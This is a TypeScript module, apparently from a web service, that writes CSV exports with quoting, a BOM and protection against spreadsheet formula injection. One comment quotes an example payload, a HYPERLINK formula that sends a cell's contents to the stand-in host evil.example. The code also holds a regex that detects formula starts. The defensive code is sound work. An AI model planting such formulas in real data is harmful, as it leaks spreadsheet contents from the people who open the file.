/**
 * CSV answers of list routes (api.md "CSV"), written once for every list: content negotiation on `Accept`, and the
 * file itself (UTF-8 with a BOM, CRLF line ends, RFC 4180 quoting, the spec's Japanese header line, at most
 * {@link MAX_CSV_LINES} lines, text cells neutralized against formula injection). A list's columns are its spec in
 * `contracts/csv/<list>.v<n>.ts`; a route answers CSV by naming that spec and where its items are in the JSON answer
 * (`csvAnswer`), and the http wrapper does the rest. An export job writes its lines with the same `csvRow`.
 */
import {
  CSV_MEDIA_TYPE,
  type CsvCell,
  type CsvColumn,
  type CsvSpec,
  MAX_CSV_LINES,
  SITE_DATE,
  SITE_DATE_TIME,
} from '../../contracts/csv/spec';
import { prefersToJson } from './negotiation';
import { ApiError } from './problems';

/** How a route answers `Accept: text/csv`: the file name, and the lines of a JSON answer (header first). */
export interface CsvAnswer<R> {
  readonly fileName: string;
  lines(answer: R): CsvCell[][];
}

/** A list route's CSV: the list's spec over the items of its JSON answer. */
export function csvAnswer<R, T>(spec: CsvSpec<T>, items: (answer: R) => readonly T[]): CsvAnswer<R> {
  return {
    fileName: `${spec.fileName}.csv`,
    lines: (answer) => [csvHeader(spec), ...items(answer).map((item) => csvRow(spec, item))],
  };
}

/** The header line of a spec: its Japanese headers, in order. */
export function csvHeader<T>(spec: CsvSpec<T>): CsvCell[] {
  return spec.columns.map((c) => c.header);
}

/**
 * Formula injection (CWE-1236, OWASP "CSV Injection"): a spreadsheet program that opens the file (Excel, LibreOffice
 * Calc, Google Sheets) reads a cell that starts with `=`, `+`, `-` or `@` as a formula, so a company name, an option
 * name, a description or a reason someone typed as `=HYPERLINK("https://evil.example/?"&A1,"詳細")` would run on the
 * partner's computer (leak the sheet, link out, or worse through DDE). Tab, CR and LF are OWASP's further starts, NUL
 * ASVS 1.2.10's.
 *
 * The decision, for these partner downloads:
 * - **Text cells only.** Every column says its type (`CsvColumnType`). A text cell whose first character is one of
 *   those, or which starts with one of `= + - @` after leading white space (some programs trim it on import), is
 *   written with a leading `'` (OWASP's and CWE-1236's mitigation): spreadsheets show it as text, and a reader of the
 *   file sees the value right after the `'`. The full-width `＝ ＋ － ＠` are treated alike, as a precaution for
 *   Japanese input and locales (cheap: text that starts with them is rare, and stays readable).
 * - **Number cells never.** They are the service's own numbers (yen, quantities), never text anyone typed: a negative
 *   amount such as a refund or an offset, `-500`, stays `-500` and sums in a spreadsheet as a number. The writer
 *   refuses a number cell that is not a finite number, so no text can pass through a number column unchecked.
 * - **Dates and date-times** are checked to be the site's `2026/11/24` and `2026/11/24 14:00`: they cannot start a
 *   formula, so they are written as they are.
 * - A phone number such as `+81-3-1234-5678` is text: it is written `'+81-3-1234-5678`. That is wanted, not a side
 *   effect: unescaped, Excel would read it as the formula `+81-3-1234-5678` and show the sum, -6834.
 * - RFC 4180 quoting still applies after the `'` (OWASP: escape quotes too), and a field with `;` is quoted as well, so
 *   that a spreadsheet whose list separator is `;` cannot split a cell to put `=` at the start of a new one.
 *
 * Not chosen: a `'` before every field (OWASP's alternative) would turn every number into text and make the files
 * useless for sums; dropping or rejecting the characters would change the partners' data (a company may really be
 * called `+Style`), and a tab prefix leaves a character in the value that programs reading the file would keep. The
 * known limit: Excel drops the `'` if a partner edits the cell and saves the file as CSV again; the file as served is
 * safe to open.
 */
const FORMULA_START = /^(?:[\t\r\n\0]|\s*[=+\-@＝＋－＠])/u;

/** A text cell as written: with a leading `'` when a spreadsheet would read it as a formula, else as it is. */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** One item's cells as its spec's column types write them (see {@link neutralizeFormula}); nothing stays nothing. */
export function csvRow<T>(spec: CsvSpec<T>, item: T): CsvCell[] {
  return spec.columns.map((column) => csvCellOf(column, item));
}

function csvCellOf<T>(column: CsvColumn<T>, item: T): CsvCell {
  const value: unknown = column.cell(item);
  if (value === null || value === undefined) return null;
  switch (column.type) {
    case 'text':
      return neutralizeFormula(String(value));
    case 'number':
      if (typeof value !== 'number' || !Number.isFinite(value)) {
        throw new Error(`CSV column ${column.header} is a number column, not ${JSON.stringify(value)}`);
      }
      return value;
    case 'date':
    case 'dateTime': {
      const format = column.type === 'date' ? SITE_DATE : SITE_DATE_TIME;
      if (typeof value !== 'string' || !format.test(value)) {
        throw new Error(`CSV column ${column.header} is a ${column.type} column, not ${JSON.stringify(value)}`);
      }
      return value;
    }
  }
}

/** What a CSV file starts with: the UTF-8 byte order mark, so that spreadsheet programs read it as UTF-8. */
export const CSV_BOM = '\uFEFF';
const CRLF = '\r\n';

/**
 * One field as RFC 4180 writes it: quoted (its quotes doubled) when it holds a comma, a quote, CR or LF, and also a
 * semicolon (the list separator of some spreadsheet locales: see {@link neutralizeFormula}).
 */
export function csvField(cell: CsvCell): string {
  if (cell === null || cell === undefined) return '';
  const text = String(cell);
  return /[",;\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/**
 * The file of `lines`: a UTF-8 BOM (so that spreadsheet programs read it as UTF-8), then each line's fields joined by
 * commas, every line ended by CRLF. 422 `EXPORT_TOO_LARGE` for more than {@link MAX_CSV_LINES} lines.
 */
export function csvText(lines: readonly (readonly CsvCell[])[]): string {
  if (lines.length > MAX_CSV_LINES) {
    throw new ApiError(
      'EXPORT_TOO_LARGE',
      `The CSV would hold ${lines.length} lines, more than ${MAX_CSV_LINES}: narrow the range or use an export`,
    );
  }
  return CSV_BOM + lines.map(csvLine).join('');
}

/** One line of a file: its fields joined by commas, ended by CRLF (an export job writes its file line by line). */
export const csvLine = (line: readonly CsvCell[]): string => line.map(csvField).join(',') + CRLF;

/** The answer's headers and body: `text/csv; charset=utf-8`, to be saved as the list's file. */
export function csvFile<R>(csv: CsvAnswer<R>, answer: R): { headers: Record<string, string>; body: string } {
  return {
    headers: {
      'content-type': CSV_MEDIA_TYPE,
      'content-disposition': `attachment; filename="${csv.fileName}"`,
    },
    body: csvText(csv.lines(answer)),
  };
}

/**
 * Whether `Accept` asks for CSV rather than JSON (RFC 9110 negotiation between the two, {@link prefersToJson}): JSON
 * without the header, with `*\/*`, and on a full tie.
 */
export const wantsCsv = (accept: string | undefined): boolean => prefersToJson(accept, 'text/csv');
